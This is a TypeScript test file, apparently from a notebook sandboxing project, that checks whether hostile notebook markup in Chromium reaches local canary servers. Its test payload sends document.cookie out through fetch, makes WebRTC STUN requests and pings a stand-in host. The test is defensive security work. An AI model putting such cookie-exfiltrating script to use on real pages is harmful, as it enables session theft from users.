import { expect, it } from "vitest";
import { describeWith } from "../../../tests/requirements.ts";
import { CHROMIUM } from "./chromium.ts";
import { hostileBed } from "./hostile-bed.ts";
import { TELLING } from "./hostile-names.ts";
import { findActiveParts } from "./inspect-page.ts";

describeWith(CHROMIUM, "hostile notebooks in Chromium", () => {
  const bed = hostileBed();
  const { canary } = bed;
  bed.testNotebooks(TELLING);

  it("reaches the canaries when nothing protects the reader", async () => {
    const http = `http://127.0.0.1:${canary().httpPort}`;
    const markup = `<img src="${http}/control.png"><img src="http://any.host.example/mapped"><script>
      const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${canary().udpPort}" }] });
      c.createDataChannel("");
      c.createOffer().then((offer) => c.setLocalDescription(offer));
      fetch("${http}/cookie?" + document.cookie);
      globalThis.pwned = 1;
      alert(1);
      console.log("hello");
    </script>`;
    const seen = Promise.all([
      canary().sees(`GET 127.0.0.1:${canary().httpPort}/control.png`),
      canary().sees("GET any.host.example/mapped"),
      canary().sees(`GET 127.0.0.1:${canary().httpPort}/cookie?session=canary-cookie`),
      canary().sees("UDP"),
    ]);
    await bed.visit(markup);
    await seen;
    expect(bed.events()).toEqual(
      expect.arrayContaining(["dialog 1", "console hello", `request ${http}/control.png`]),
    );
    expect(await findActiveParts(bed.page())).toContain("<script>");
  });
});
